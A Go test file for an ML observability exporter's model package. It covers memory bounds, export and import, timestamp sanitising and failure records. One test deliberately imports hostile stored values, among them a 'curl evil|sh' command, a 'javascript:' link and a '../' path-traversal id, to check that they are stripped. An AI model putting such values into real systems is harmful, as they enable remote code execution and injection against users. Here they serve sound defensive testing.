package model_test

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/model"
)

// heldBytes returns how many bytes the program holds.
func heldBytes() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// A name of a span is kept only as far as it is shown.
func TestLongNamesOfFailuresAreNotKept(t *testing.T) {
	w := newWorld(model.Settings{})
	before := heldBytes()
	for i := range 100 {
		w.span(func(in *model.SpanInput) {
			in.Failed, in.Class = true, strings.Repeat("E", 1<<18)+strconv.Itoa(i)
			in.Name = strings.Repeat("n", 1<<18) + strconv.Itoa(i)
		})
	}
	assert.Less(t, heldBytes(), before+16<<20)
	assert.Len(t, w.state().Failures, 1)
	assert.EqualValues(t, 100, w.State().Failures[0].Count)
}

// traces::bytes counts the texts of spans, and forgets those of removed spans.
func TestTracesCountTheirTexts(t *testing.T) {
	const limit = 1 << 20
	w := newWorld(model.Settings{MaxTraces: 100, SpansPerTrace: 16, TraceBytes: limit})
	id := func(round, i int) [16]byte { return [16]byte{byte(round), byte(i), 1} }
	add := func(round, spans, length int) {
		for i := range 100 {
			for n := range spans {
				w.span(func(in *model.SpanInput) {
					in.Trace, in.ID = id(round, i), [8]byte{byte(n + 1)}
					text := fmt.Sprint(round, i, n) + strings.Repeat("\U0001F600", length)
					in.Name, in.Operation, in.Phase = "n"+text, "o"+text, "p"+text
				})
			}
		}
	}
	held := func(round int) (traces, bytes int) {
		for i := range 100 {
			key := id(round, i)
			trace, ok := w.Trace(hex.EncodeToString(key[:]))
			if !ok {
				continue
			}
			traces++
			for _, span := range trace.Spans {
				bytes += len(span.Name) + len(span.Operation) + len(span.Phase)
			}
		}
		return traces, bytes
	}
	for round := range 5 {
		add(round, 40, 120)
	}
	traces, bytes := held(4)
	assert.Less(t, bytes, limit)
	assert.Greater(t, traces, 10)
	add(5, 8, 0)
	traces, _ = held(5)
	assert.Equal(t, 100, traces, "the memory of removed texts is free again")
}

// A service has new versions and models however many it had.
func TestNewVersionsOfAnOldService(t *testing.T) {
	w := newWorld(model.Settings{})
	use := func(n int) {
		w.now = w.now.Add(time.Minute)
		w.span(func(in *model.SpanInput) {
			in.Source.Version, in.Model, in.Request = fmt.Sprint("1.0.", n), fmt.Sprint("m", n), true
		})
	}
	for n := range 300 {
		use(n)
	}
	changes := w.state().Changes
	assert.ElementsMatch(t, []string{"m299", "1.0.299"}, []string{changes[0].To, changes[1].To})
	use(299)
	use(290)
	assert.Equal(t, changes, w.state().Changes, "they are known")
}

// What is kept over restarts can be read again however much there is, and has what
// was seen last.
func TestAnExportCanBeImported(t *testing.T) {
	w := newWorld(model.Settings{MaxRuns: 20_000})
	long := strings.Repeat("<", 120)
	for i := range 1000 {
		w.now = w.now.Add(time.Second)
		for v := range 8 {
			w.span(func(in *model.SpanInput) {
				in.Source.Service, in.Source.Version = fmt.Sprint("s", i), fmt.Sprint(v, long)
				in.Source.Run, in.Source.Job, in.Source.JobName = strconv.Itoa(10*i+v), long, long
			})
		}
	}
	data, err := w.Export()
	require.NoError(t, err)
	assert.Less(t, len(data), 16<<20)
	again := newWorld(model.Settings{MaxRuns: 20_000})
	again.now = w.now
	require.NoError(t, again.Import(data))
	runs := again.state().Runs
	assert.Greater(t, len(runs), 1000)
	assert.True(t, slices.ContainsFunc(runs, func(r model.Run) bool { return r.ID == "9997" }))
	before := len(again.State().Changes)
	again.span(func(in *model.SpanInput) { in.Source.Service, in.Source.Version = "s999", "0"+long })
	assert.Len(t, again.state().Changes, before, "the version is known")
}

// Times that no clock shows are replaced, in the storage and in repro_gen's
// directory: a State is always JSON.
func TestTimesThatNoClockShows(t *testing.T) {
	for _, text := range []string{"0000-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "1970-01-01T00:00:00Z"} {
		w := newWorld(model.Settings{})
		recent := w.now.Format(time.RFC3339)
		times := `"service":"trainer","first_seen":"` + text + `","last_seen":"` + recent + `"`
		require.NoError(t, w.Import([]byte(`{"version":1,
			"runs":[{"id":"r","checkpoint":"`+text+`",`+times+`}],
			"services":[{"name":"trainer","versions":{"1":"`+text+`"},"models":{"m":"`+text+`"},`+times+`}],
			"failures":[{"key":"k",`+times+`}]}`)))
		never, err := time.Parse(time.RFC3339, text)
		require.NoError(t, err)
		w.SetFailures([]model.Failure{{Key: "found", FirstSeen: &never, LastSeen: &never}})
		w.span(func(in *model.SpanInput) { in.Request, in.Model, in.Source.Version = true, "m", "1" })
		state := w.state()
		data, err := json.Marshal(state)
		require.NoError(t, err)
		require.Len(t, state.Runs, 1)
		assert.Equal(t, recent, state.Runs[0].FirstSeen.Format(time.RFC3339))
		require.Len(t, state.Failures, 2)
		assert.NotContains(t, string(data), text[:4]+"-")
		_, err = w.Export()
		require.NoError(t, err)
	}
}

// Who can write the storage cannot have the page show a command or an address, nor
// more of a message than the configuration says.
func TestSavedFailuresHaveNoCommands(t *testing.T) {
	w := newWorld(model.Settings{JaegerURL: "http://jaeger"})
	require.NoError(t, w.Import([]byte(`{"version":1,"failures":[{"key":"k","class":"E","message":"`+strings.Repeat("m", 400)+`","count":3,
		"command":"curl evil|sh","replays":true,"requires":["evil"],"fill":["evil"],"report":"javascript:evil()","trace_url":"http://evil",
		"trace_id":"../evil","last_seen":"`+w.now.Format(time.RFC3339)+`"}]}`)))
	rows := w.state().Failures
	require.Len(t, rows, 1)
	assert.Equal(t, []any{"E", int64(3), strings.Repeat("m", 200)}, []any{rows[0].Class, rows[0].Count, rows[0].Message})
	data, err := json.Marshal(rows)
	require.NoError(t, err)
	assert.NotContains(t, string(data), "evil")
}

// Clocks of producers that are far ahead do not decide what is kept.
func TestRecordsOfTheFuture(t *testing.T) {
	w := newWorld(model.Settings{MaxGPUs: 4})
	point := func() {
		w.ApplyPoints([]model.Point{{Series: model.GPUPower, Labels: model.Labels{Host: "h", GPU: "g"}, Value: 70}})
	}
	xid := func(gpu, code string, at time.Time) {
		w.ApplyEvents([]model.Event{{Time: at, Host: "h", GPU: gpu, XID: &model.XID{Time: at, Code: code}}})
	}
	code := func() string {
		rows := w.state().GPUs
		require.Len(t, rows, 1)
		require.NotNil(t, rows[0].XID)
		return rows[0].XID.Code
	}
	future := w.now.AddDate(200, 0, 0)
	for i := range 10 {
		xid(fmt.Sprint("unknown", i), "1", future)
	}
	point()
	xid("g", "1", future)
	assert.Equal(t, "1", code())
	w.now = w.now.Add(time.Minute)
	xid("g", "79", w.now)
	assert.Equal(t, "79", code())
	w.now = w.now.Add(2 * time.Hour)
	point()
	xid("unknown", "1", w.now) // those of GPUs that never came made room
	w.ApplyPoints([]model.Point{{Series: model.GPUPower, Labels: model.Labels{Host: "h", GPU: "unknown"}, Value: 70}})
	assert.NotNil(t, w.state().GPUs[1].XID)

	for i := range 500 {
		w.ApplyEvents([]model.Event{{Time: future, Failure: &model.Failure{Key: strconv.Itoa(i), LastSeen: &future}}})
	}
	w.now = w.now.Add(time.Hour)
	for i := range 10 {
		w.span(func(in *model.SpanInput) { in.Failed, in.Class = true, fmt.Sprint("Real", i) })
	}
	real := 0
	for _, f := range w.state().Failures {
		if strings.HasPrefix(f.Class, "Real") {
			real++
		}
		assert.False(t, f.LastSeen.After(w.now))
	}
	assert.Equal(t, 10, real)
}

// A version that is too long to be kept whole is one version.
func TestALongVersionIsOneVersion(t *testing.T) {
	w := newWorld(model.Settings{})
	request := func(version string) {
		w.span(func(in *model.SpanInput) { in.Source.Version, in.Model, in.Request = version, "m", true })
	}
	request("1")
	for range 20 {
		request(strings.Repeat("v", 200))
	}
	rows := w.state().Models
	require.Len(t, rows, 1)
	require.Len(t, rows[0].Versions, 2)
	for _, version := range rows[0].Versions {
		if version.Version != "1" {
			assert.InDelta(t, 20, version.Requests, 0)
		}
	}
}

// A span that two services send, such as one without ids, is two rows.
func TestKeysOfCallsDiffer(t *testing.T) {
	w := newWorld(model.Settings{})
	for _, service := range []string{"a", "b", "a"} {
		w.span(func(in *model.SpanInput) { in.Source.Service, in.Call = service, model.WholeCall })
	}
	calls := w.state().Calls
	require.Len(t, calls, 2)
	assert.NotEqual(t, calls[0].Key, calls[1].Key)
}
